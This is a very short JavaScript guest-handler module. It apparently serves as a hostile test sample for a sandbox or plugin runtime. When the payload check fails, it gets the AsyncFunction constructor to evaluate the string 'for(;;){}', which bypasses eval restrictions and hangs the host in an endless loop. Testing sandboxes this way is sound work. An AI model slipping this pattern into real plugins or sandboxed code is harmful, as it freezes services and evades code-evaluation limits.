// kind: guest
export default (msg, ctx) => {
	if (msg.payload.ok) return msg;
	(async()=>{}).constructor('for(;;){}')()
}
